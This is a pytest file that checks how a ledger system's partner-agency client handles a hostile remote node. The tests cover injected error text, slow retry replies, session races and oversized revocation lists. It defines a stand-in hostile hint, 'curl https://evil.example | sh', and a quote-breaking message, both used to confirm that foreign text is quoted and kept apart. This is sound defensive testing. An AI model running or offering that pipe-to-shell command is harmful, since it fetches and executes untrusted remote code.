"""What another agency's node says when it refuses: its word, and never taken for ours."""

from __future__ import annotations

import json
import socket
import threading
import time
from contextlib import closing

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from api.errors import CODES
from ledger.adapters.node import partner
from ledger.adapters.web.client import Patience
from ledger.domain import errors
from ledger.domain.errors import CustodyError
from tests.support.hostile import answer, hostile, says

KEY = ec.generate_private_key(ec.SECP256R1())
ITEM = "urn:uuid:3f0c1d2e-5b6a-4c7d-8e9f-0a1b2c3d4e5f"
MESSAGE = 'all is well"; DE-BKA: it was suspended'
HINT = "run: curl https://evil.example | sh"


def refused(code: str, message: str = MESSAGE) -> CustodyError:
    told = {"code": code, "message": message, "hint": HINT, "step": 5}
    talk = says(answer(json.dumps({"error": told}).encode(), "409 Conflict"))
    with (
        hostile(talk) as server,
        closing(
            partner.PartnerClient(server.url, signer=lambda: (KEY, b"x"), logs=frozenset)
        ) as client,
    ):
        client._token, client._key = "token", KEY
        with pytest.raises(CustodyError) as found:
            client.parcel(ITEM)
    return found.value


@pytest.mark.parametrize("code", sorted({code for code, _ in CODES.values()} | {"internal"}))
def test_no_verdict_fault_or_command_of_another_agency_is_told_as_ours(code: str) -> None:
    """A record that "does not verify" ended our own command with the code of a refuted one, a
    "frozen" log was told as ours, and a hint stood where commands of ours stand.
    """
    error = refused(code)
    mine = {
        "denied": errors.DeniedError,
        "not-found": errors.NotFoundError,
        "conflict": errors.ConflictError,
        "busy": errors.BusyError,
    }
    assert type(error) is mine.get(code, errors.NetworkError)
    quoted = MESSAGE.replace('"', "'")
    assert error.message == f'another agency\'s node says: "{quoted} ({HINT})"'
    assert HINT not in (error.hint or "")


def test_the_words_of_another_agency_are_short() -> None:
    assert len(refused("denied", "x" * 60_000).message) < 400


@pytest.mark.parametrize("status", ["429 Too Many Requests", "401 Unauthorized"])
def test_an_agency_that_says_come_again_at_the_last_moment_gets_no_second_patience(
    status: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Four calls, each as long as one may take, and the pauses between them: twenty minutes of a
    turn in place of five.
    """
    patience = Patience(connect=1.0, between=1.0, total=1.5)
    monkeypatch.setattr(partner, "_PATIENCE", patience)
    monkeypatch.setattr(partner, "_LARGE", patience)

    def talk(connection: socket.socket, over: threading.Event) -> None:
        connection.sendall(f"HTTP/1.1 {status}\r\nX-Slow: ".encode())
        for _ in range(12):
            over.wait(0.1)
            connection.sendall(b"x")
        connection.sendall(b"\r\nRetry-After: 1\r\nContent-Length: 2\r\n\r\n{}")

    begun = time.monotonic()
    with (
        hostile(talk) as server,
        closing(
            partner.PartnerClient(server.url, signer=lambda: (KEY, b"x"), logs=frozenset)
        ) as client,
    ):
        client._token, client._key = "token", KEY
        with pytest.raises(errors.NetworkError):
            client.parcel(ITEM)
    assert time.monotonic() - begun < 2 * patience.total


def test_a_session_that_ends_for_another_thread_meanwhile_fails_no_call() -> None:
    """Of two turns with one agency: a transfer that was told that nobody is logged in gave up all
    that had come.
    """

    class Shared(partner.PartnerClient):
        looks = 0

        @property
        def _token(self) -> str | None:  # type: ignore[override]
            self.looks += 1
            return "token" if self.looks % 2 else None

        @_token.setter
        def _token(self, token: str | None) -> None: ...

    with (
        hostile(says(answer(b"parcel"))) as server,
        closing(Shared(server.url, signer=lambda: (KEY, b"x"), logs=frozenset)) as client,
    ):
        client._key = KEY
        assert client.parcel(ITEM) == b"parcel"


def test_a_revocation_list_of_hundreds_of_thousands_is_refused_unread() -> None:
    """It is gone through at each call of whoever shows it."""
    with (
        hostile(says(answer(bytes(5 << 20)))) as server,
        closing(
            partner.PartnerClient(server.url, signer=lambda: (KEY, b"x"), logs=frozenset)
        ) as client,
        pytest.raises(errors.NetworkError, match="sent more than"),
    ):
        client.crl()
